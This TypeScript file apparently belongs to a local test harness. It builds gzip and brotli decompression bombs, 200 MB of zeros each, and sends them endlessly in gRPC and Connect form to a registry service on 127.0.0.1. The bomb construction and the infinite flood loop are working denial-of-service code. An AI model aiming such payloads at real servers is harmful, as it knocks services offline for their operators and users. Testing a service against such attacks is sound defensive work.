import { request } from "node:http";
import { connect } from "node:http2";
import { connect as connectTcp } from "node:net";
import { brotliCompressSync, constants, gzipSync } from "node:zlib";
import { ATTACKER_ADDRESS, type Attack, type AttackConfig, type Harvest } from "./attack.js";

const REGISTER = "/pulse.v1.RegistryService/Register";
const PAUSE_MS = 20;

type Send = (config: AttackConfig, harvest: Harvest) => Promise<void>;

/** Messages of 200 MB of nothing. */
const FORMS: Readonly<Record<string, () => Send>> = {
  "gRPC, gzip": () => {
    const packed = gzipSync(Buffer.alloc(200_000_000));
    const head = Buffer.alloc(5);
    head.writeUInt8(1);
    head.writeUInt32BE(packed.length, 1);
    const body = Buffer.concat([head, packed]);
    return (config, harvest) => sendGrpc(config, harvest, body);
  },
  "Connect, gzip": () => {
    const body = gzipSync(Buffer.alloc(200_000_000));
    return (config, harvest) => sendConnect(config, harvest, "gzip", body);
  },
  "Connect, brotli": () => {
    const params = { [constants.BROTLI_PARAM_QUALITY]: 4 };
    const body = brotliCompressSync(Buffer.alloc(200_000_000), { params });
    return (config, harvest) => sendConnect(config, harvest, "br", body);
  },
};
export const PACKED_BOMBS = Object.keys(FORMS);

/** Compressed messages that are huge once they are unpacked, some at a time, for ever. */
export const packedBombs: Attack = async (config, harvest) => {
  const send = FORMS[config.form ?? ""]?.();
  if (!send) throw new Error(`there is no bomb ${config.form}`);
  for (let n = 0; n < config.count; n++)
    void (async () => {
      for (;;) {
        harvest.opened += 1;
        await send(config, harvest);
        harvest.closed += 1;
        await new Promise((resolve) => setTimeout(resolve, PAUSE_MS));
      }
    })();
};

function sendConnect(config: AttackConfig, harvest: Harvest, encoding: string, body: Buffer) {
  return new Promise<void>((resolve) => {
    const call = request({
      port: config.port,
      host: "127.0.0.1",
      localAddress: ATTACKER_ADDRESS,
      path: REGISTER,
      method: "POST",
      headers: { "content-type": "application/proto", "content-encoding": encoding },
    });
    call.on("error", () => {});
    call.on("response", (response) => {
      count(harvest, `HTTP ${response.statusCode}`);
      response.resume();
    });
    call.once("close", () => resolve());
    call.end(body);
  });
}

function sendGrpc(config: AttackConfig, harvest: Harvest, body: Buffer) {
  return new Promise<void>((resolve) => {
    const session = connect(`http://127.0.0.1:${config.port}`, {
      createConnection: () =>
        connectTcp({ port: config.port, host: "127.0.0.1", localAddress: ATTACKER_ADDRESS }),
    });
    session.on("error", () => {});
    const stream = session.request({
      ":method": "POST",
      ":path": REGISTER,
      "content-type": "application/grpc",
      "grpc-encoding": "gzip",
      te: "trailers",
    });
    const told = (headers: Readonly<Record<string, unknown>>) => {
      if (headers["grpc-status"] !== undefined) count(harvest, `status ${headers["grpc-status"]}`);
    };
    stream.on("response", told);
    stream.on("trailers", told);
    stream.on("error", () => {});
    stream.resume();
    stream.once("close", () => {
      session.destroy();
      resolve();
    });
    stream.end(body);
  });
}

function count(harvest: Harvest, what: string): void {
  harvest.seen[what] = (harvest.seen[what] ?? 0) + 1;
}
